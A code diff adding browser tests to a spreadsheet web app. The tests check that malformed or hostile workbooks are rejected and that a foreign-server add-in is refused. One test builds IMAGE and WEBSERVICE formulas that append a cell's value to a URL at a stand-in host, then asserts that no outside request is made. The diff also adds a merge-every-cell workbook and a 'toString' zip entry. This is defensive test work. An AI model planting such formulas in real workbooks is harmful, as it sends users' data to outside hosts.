@@ -252,11 +252,17 @@ export const tests = {
     const frame = t.frame.name();
     const whole = readFileSync((await save(t)).path);
     for (const [name, bytes, sentence] of [
-      ['cijfers.xlsx', Buffer.from('Product;Zaken\n'), 'dit is geen Excel-werkmap'],
+      ['cijfers.xlsx', Buffer.from('Product;Zaken\n'), 'dit is een tekstbestand \\(csv\\)'],
       ['half.xlsx', whole.subarray(0, whole.length / 2), 'beschadigd of niet volledig'],
       ['leeg.xlsx', Buffer.alloc(0), 'het bestand is leeg'],
       ['oud.xls', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'oude Excel-werkmap'],
       ['kapot.xlsx', workbookOf('<sheetData><row>'), 'beschadigd'],
+      [
+        'alles-een.xlsx',
+        workbookOf('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
+        'te veel samengevoegde cellen',
+      ],
+      ['toString.xlsx', Buffer.from(zipSync({ toString: strToU8('<a/>') })), 'geen Excel-werkmap'],
     ]) {
       await chooseBytes(t, name, bytes);
       await said(t, `^Niet geopend: ${name}: .*${sentence}`);
@@ -346,6 +352,38 @@ export const tests = {
     console.log(
       `        ${(bytes.length / 1e6).toFixed(1)} MB opened in ${opened} ms, saved in ${Date.now() - from} ms as ${(readFileSync(path).length / 1e6).toFixed(1)} MB`,
     );
+  },
+
+  'a workbook of a stranger asks nothing of any other server': async ({ open }) => {
+    const t = await open('/?model=none');
+    const asked = [];
+    t.page.on('request', (request) => asked.push(new URL(request.url()).hostname));
+    const image = '<c r="B1"><f>_xlfn.IMAGE("https://elders.example/"&amp;A1)</f></c>';
+    const service = '<c r="C1"><f>WEBSERVICE("https://elders.example/"&amp;A1)</f></c>';
+    await chooseBytes(
+      t,
+      'vreemd.xlsx',
+      workbookOf(`<sheetData><row r="1"><c r="A1"><v>7</v></c>${image}${service}</row></sheetData>`),
+    );
+    await said(t, '^Geopend: vreemd.xlsx');
+    await t.idle();
+    assert.deepEqual(await t.values('A1:C1'), [[7, '#VALUE!', '#VALUE!']]);
+    assert.deepEqual(
+      asked.filter((host) => host !== 'localhost'),
+      [],
+    );
+  },
+
+  'an add-in of another server is refused': async ({ open }) => {
+    const { page } = await open('/?model=none');
+    const own = new URL(page.url()).origin;
+    const other = await page.context().newPage();
+    await other.goto(`${own}/?addin=https://elders.example/`);
+    await other.waitForFunction(() =>
+      document.getElementById('status').textContent.includes('only an add-in of this server'),
+    );
+    assert.equal(await other.locator('#pane iframe').count(), 0);
+    await other.close();
   },
 
   'an address without a workbook says so and leaves an empty one': async ({ open }) => {
